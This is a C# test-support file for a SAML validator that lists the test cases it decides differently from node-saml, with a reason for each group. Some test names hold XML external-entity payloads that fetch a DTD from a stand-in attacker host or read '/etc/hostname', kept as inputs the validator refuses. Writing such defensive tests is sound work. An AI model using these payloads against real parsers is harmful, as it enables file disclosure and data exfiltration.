namespace OrleansIdentity.Saml.Tests.Support;

/// <summary>Every case that we and node-saml 5.1.0 decide differently, and why. The name is a test's, for all its variants, or <c>test/variant</c>.</summary>
internal static class Differences
{
    /// <summary>Refused here, accepted there.</summary>
    public static IReadOnlySet<string> Stricter { get; } = NamesOf(
    [
        (
            "It compares neither Recipient nor Destination.",
            [
                "Validate_WrongRecipient_IsRefused",
                "Validate_NoRecipient_IsRefused",
                "Validate_RecipientOfAnotherNamespace_IsRefused",
                "Validate_WrongDestination_IsRefused",
                "Validate_SignedResponseWithoutDestination_IsRefused",
            ]),
        (
            "It compares the issuer of logout messages only.",
            [
                "Validate_WrongIssuerOfTheResponse_IsRefused",
                "Validate_WrongIssuerOfTheAssertion_IsRefused",
                "Validate_SignedResponseWithoutIssuer_IsRefused",
            ]),
        (
            "It looks at the times of a confirmation, not at its method or form (profiles §4.1.4.2).",
            [
                "Validate_ConfirmationOtherThanBearer_IsRefused",
                "Validate_BearerWithNotBefore_IsRefused",
                "Validate_TwoConfirmations_IsRefused",
            ]),
        (
            "It lets either InResponseTo be absent where sign-in may start at the identity provider.",
            [
                "Validate_InResponseToAnotherRequest_IsRefused/-_request",
                "Validate_InResponseToAnotherRequest_IsRefused/_request-",
            ]),
        (
            "It does not read the status of a response that has an assertion.",
            [
                "Validate_OtherStatusWithAnAssertion_IsRefused",
                "Validate_SuccessBelowAFailure_IsRefused",
            ]),
        (
            "It has no such setting, or leaves the check to its caller.",
            [
                "Validate_AnotherNameFormatThanDemanded_IsRefused",
                "Validate_ContextAskedFor_IsDemanded",
                "Validate_FreshSignInAskedFor_LooksAtTheInstant",
                "Validate_ExpiredCertificate_IsRefused",
            ]),
        (
            "It reads of the AuthnStatement only the SessionIndex.",
            [
                "Validate_NoAuthnInstant_IsRefused",
                "Validate_SignedInAheadOfTime_IsRefused",
                "Validate_SessionIsOver_IsRefused",
                "Validate_TwoAuthnStatements_IsRefused",
            ]),
        (
            "It reads times as JavaScript does: other zones, no zone, the 30th of February.",
            [
                "Validate_TimeThatIsNoUtcInstant_IsRefused/2026-03-01T13:00:00",
                "Validate_TimeThatIsNoUtcInstant_IsRefused/2026-03-01T13:00:00+01:00",
                "Validate_TimeThatIsNoUtcInstant_IsRefused/2026-02-30T13:00:00Z",
            ]),
        (
            "It takes the first of several elements and passes over what it does not know, by local name.",
            [
                "Validate_TwoSubjects_IsRefused",
                "Validate_TwoNames_IsRefused",
                "Validate_ForeignContentInTheSignedAssertion_IsRefused",
                "Validate_UnknownCondition_IsRefused",
                "Validate_AnotherVersion_IsRefused",
                "Validate_EncryptedParts_IsRefused",
                "Validate_AttributeTwice_IsRefused",
                "Validate_NamespaceConfusion_IsRefused/root",
                "Validate_NamespaceConfusion_IsRefused/prefixes",
                "Validate_ImproperAttribute_IsRefused/<Attribute Name=\"x\" xmlns=\"\"/>",
                "Validate_ImproperAttribute_IsRefused/<saml:Attribute Name=\"\"><saml:AttributeValue>1</saml:AttributeValue></saml:Attribute>",
                "Validate_ImproperAttribute_IsRefused/<saml:Attribute Name=\"x\"><AttributeValue xmlns=\"\">1</AttributeValue></saml:Attribute>",
                "Validate_ImproperAttribute_IsRefused/<saml:Attribute Name=\"x\"><saml:AttributeValue><b>1</b></saml:AttributeValue></saml:Attribute>",
            ]),
        (
            "It gives no name, or half of one, where there is no plain one.",
            [
                "Validate_NoPlainName_IsRefused",
            ]),
        (
            "It allows SHA-1, other canonicalisations, transforms in any order, and more in a signature than SAML does.",
            [
                "Validate_Sha1Signature_IsRefused",
                "Validate_Sha1Digest_IsRefused",
                "Validate_OtherCanonicalisation_IsRefused",
                "Validate_ObjectInTheSignature_IsRefused",
                "Validate_PartOfTheSignatureInKeyInfo_IsRefused/DigestValue",
                "Validate_OtherTransforms_IsRefused/c14n",
                "Validate_OtherTransforms_IsRefused/c14n-with-comments",
                "Validate_OtherTransforms_IsRefused/exclusive-with-comments",
                "Validate_OtherTransforms_IsRefused/enveloped-alone",
                "Validate_OtherTransforms_IsRefused/order",
            ]),
        (
            "It does not mind a broken signature of the response where that of the assertion is enough.",
            [
                "Validate_OneOfTwoSignaturesBroken_IsRefused/_response",
            ]),
        (
            "It reads the verified one and leaves the others be.",
            [
                "Validate_Wrapped_IsRefused/xsw7",
                "Validate_AssertionWithinASignedAssertion_IsRefused",
                "Validate_AssertionAsAttributeValue_IsRefused",
            ]),
        (
            "It knows IDs by the exact name and value, and needs none on what is not signed by itself.",
            [
                "Validate_IdOnAnotherElement_IsRefused/ID=\"_ASSERTION\"",
                "Validate_IdOnAnotherElement_IsRefused/Id=\"_other\"",
                "Validate_IdOnAnotherElement_IsRefused/samlp:ID=\"_other\"",
                "Validate_TwoSpellingsOnTheAssertion_IsRefused/id=\"_x\"",
                "Validate_NoAssertionId_IsRefused",
            ]),
        (
            "It parses document types, comments, XInclude and foreign encodings, and reads what remains after canonicalisation.",
            [
                "Validate_CommentInTheName_IsRefused",
                "Validate_CommentAddedAfterSigning_IsRefused",
                "Validate_XInclude_IsRefused",
                "Validate_AnotherEncodingDeclared_IsRefused",
                "Validate_DocumentType_IsRefused/<!DOCTYPE samlp:Response>",
                "Validate_DocumentType_IsRefused/<!DOCTYPE x SYSTEM \"https://attacker.example/x.dtd\">",
                "Validate_DocumentType_IsRefused/<!DOCTYPE x [<!ATTLIST saml:Assertion ID ID #REQUIRED>]>",
                "Validate_DocumentType_IsRefused/<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://attacker.example/x.dtd\">%p;]>",
                "Validate_DocumentType_IsRefused/<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>",
            ]),
        (
            "It has no limits.",
            [
                "Validate_Oversized_IsRefused/xml",
                "Validate_DeeplyNested_IsRefused",
                "Validate_TooManyAttributes_IsRefused",
            ]),
    ]);

    /// <summary>Accepted here, refused there.</summary>
    public static IReadOnlySet<string> Laxer { get; } = NamesOf(
    [
        (
            "Its parser takes U+2028 for a line break, as XML 1.1 does; this is XML 1.0.",
            [
                "Validate_AnyTexts_AreReadByNodeSamlToo/\u2028",
            ]),
        (
            "xml-crypto 6 does not know SHA-384.",
            [
                "Validate_StrongerAlgorithms_IsAccepted/sha256-sha384",
                "Validate_StrongerAlgorithms_IsAccepted/sha384-sha512",
            ]),
    ]);

    public static string Name(string test, string variant) => variant.Length == 0 ? test : $"{test}/{variant}";

    public static bool Contains(IReadOnlySet<string> differences, string test, string variant) =>
        differences.Contains(test) || differences.Contains(Name(test, variant));

    private static HashSet<string> NamesOf(IEnumerable<(string Reason, string[] Names)> differences) => [.. differences.SelectMany(difference => difference.Names)];
}
